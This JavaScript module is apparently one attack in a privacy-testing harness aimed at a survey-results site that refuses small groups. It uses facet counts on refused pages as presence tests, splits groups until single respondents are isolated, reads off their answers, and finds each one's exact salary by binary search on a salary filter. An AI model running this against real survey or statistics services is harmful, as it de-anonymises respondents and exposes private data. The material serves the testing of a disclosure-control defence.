/**
 * Attack 2 — facets on a refused page, and a binary search on salary_usd__gte.
 *
 * A page whose filters select fewer than the threshold is refused, but if its facet sidebar still
 * prints each option as "<10" or "0", every facet is a presence test: is anyone in this selection
 * with that answer? Method, per small group T (its own filters, read from the flight payload of
 * any question page):
 * - count: split T by a question with two or more options present (role, job satisfaction, a
 *   breakdown T does not fix, or a ranking's first choice — each respondent has one answer, so
 *   the parts are disjoint), plus "did not answer" it; recurse until no facet shows two answers;
 *   a leaf is one respondent unless nobody in it chose every language its facet shows (then it
 *   splits on a language). Two respondents alike in all of these are counted once. The count is
 *   the number of leaves.
 * - answers: for a group found to be one person, every facet's present options are their answers
 *   (role, satisfaction, languages, first-ranked trend); then `salary_usd__gte=X` halving X finds
 *   the salary to the unit in about 22 requests.
 * When a refused page shows no counts (the rebuild), the attacker falls back to the facet counts
 * of the pages it may open: the released cell's own count in the facet of its breakdown value's
 * page, when that count is printed.
 */
import { mapLimit, pairsOf } from './attacker.mjs';

const SPLITTABLE = new Set(['single', 'likert', 'ranking']);
const MAX_PAGES = 60;
const SALARY_CEILING = 2 ** 22;

const present = (facet) => facet.options.filter((option) => option.count !== 0);
const splitKey = (id, facet) => (facet.kind === 'ranking' ? `${id}__first` : id);

/**
 * Whether anyone matches the filters. The facet of a question the filters fix (`region=Africa`)
 * counts the selection without that filter, option by option, so its option "Africa" is the
 * selection itself: "0" or not. Without such a filter, any answer present in a facet the filters
 * do not touch. `known: false` when the page shows no facet counts.
 */
async function anyone(attacker, pairs) {
  const page = await attacker.page('role', pairs);
  const touched = new Set(pairs.map(([key]) => key.replace(/__\w+$/, '')));
  const free = [...page.facets].filter(([id, facet]) => !touched.has(id) && facet.options.length > 0);
  for (const [key, value] of pairs) {
    const option = page.facets.get(key.replace(/__first$/, ''))?.options.find((candidate) => candidate.value === value);
    if (option && !/__(?!first)/.test(key)) return { known: true, page, free, any: option.count !== 0 };
  }
  if (free.length === 0) return { known: false };
  return { known: true, page, free, any: free.some(([, facet]) => present(facet).length > 0) };
}

/**
 * A node where no single-answer facet shows two answers may still be two people. Whoever chose
 * every language the facet shows present is one person's set: if nobody did, the node holds two
 * or more, and it splits on one of those languages (chose it / answered without it / no answer).
 */
async function splitTwins(attacker, pairs, node, budget) {
  const languages = node.free.find(([id]) => id === 'languages')?.[1];
  const union = languages ? present(languages).map((option) => option.value) : [];
  if (union.length < 2 || budget.pages-- <= 0) return undefined;
  const everyOne = await anyone(attacker, [...pairs, ...union.map((value) => ['languages__all', value])]);
  if (!everyOne.known || everyOne.any) return undefined;
  return [
    [...pairs, ['languages', union[0]]],
    [...pairs, ['languages__not', union[0]]],
    [...pairs, ['languages__answered', '0']],
  ];
}

async function partition(attacker, pairs, budget) {
  if (budget.pages-- <= 0) return undefined;
  const node = await anyone(attacker, pairs);
  if (!node.known) return undefined;
  if (!node.any) return { count: 0, leaves: [] };
  const split = node.free.find(([, facet]) => SPLITTABLE.has(facet.kind) && present(facet).length >= 2);
  const children = split
    ? [...present(split[1]).map((option) => [...pairs, [splitKey(split[0], split[1]), option.value]]), [...pairs, [`${split[0]}__answered`, '0']]]
    : await splitTwins(attacker, pairs, node, budget);
  if (!children) return { count: 1, leaves: [node] };
  let count = 0;
  const leaves = [];
  for (const child of children) {
    const part = await partition(attacker, child, budget);
    if (!part) return undefined;
    count += part.count;
    leaves.push(...part.leaves);
  }
  return { count, leaves };
}

function answersOf(leaf, target) {
  const fixed = Object.fromEntries(target.conditions.filter((c) => c.value !== null).map((c) => [c.question, c.value]));
  const read = (id) => present(leaf.page.facets.get(id) ?? { options: [] }).map((option) => option.value);
  return {
    role: fixed.role ?? read('role')[0] ?? null,
    job_satisfaction: fixed.job_satisfaction ?? read('job_satisfaction')[0] ?? null,
    languages: (fixed.languages ? [fixed.languages] : read('languages')).sort().join(';') || null,
    hot_trends_first: fixed.hot_trends ?? read('hot_trends')[0] ?? null,
  };
}

/** The largest X with someone at salary_usd ≥ X: one respondent's salary, to the unit. */
async function searchSalary(attacker, pairs) {
  const has = async (extra) => (await anyone(attacker, [...pairs, ...extra])).any;
  if (!(await has([['salary_usd__answered', '1']]))) return null;
  let low = 0;
  let high = SALARY_CEILING;
  if (await has([['salary_usd__gte', String(high)]])) return null;
  while (high - low > 1) {
    const middle = Math.floor((low + high) / 2);
    if (await has([['salary_usd__gte', String(middle)]])) low = middle;
    else high = middle;
  }
  return low;
}

/** The rebuild's fallback: the cell's own count in the facet of the page its breakdown value may open. */
async function facetOfParent(attacker, target) {
  const [breakdown, cell] = target.conditions;
  if (target.family !== 'released cell') return null;
  const page = await attacker.page(cell.question, pairsOf([breakdown]));
  const option = page.facets.get(cell.question)?.options.find((o) => o.value === cell.value);
  return typeof option?.count === 'number' ? option.count : null;
}

async function estimate(attacker, target) {
  const pairs = pairsOf(target.conditions);
  const found = await partition(attacker, pairs, { pages: MAX_PAGES });
  if (!found)
    return { id: target.id, count: await facetOfParent(attacker, target), claims: ['answers', 'salary'], detail: 'no facet counts on the refused page' };
  const result = { id: target.id, count: found.count, claims: ['answers', 'salary'], detail: `${found.leaves.length} leaves` };
  if (found.count === 1) {
    result.answers = answersOf(found.leaves[0], target);
    result.salary = await searchSalary(attacker, pairs);
  }
  return result;
}

export const attack = {
  id: 2,
  title: 'facets on a refused page; salary by binary search',
  run: async ({ attacker, targets }) => ({ results: await mapLimit(targets, 4, (target) => estimate(attacker, target)) }),
};
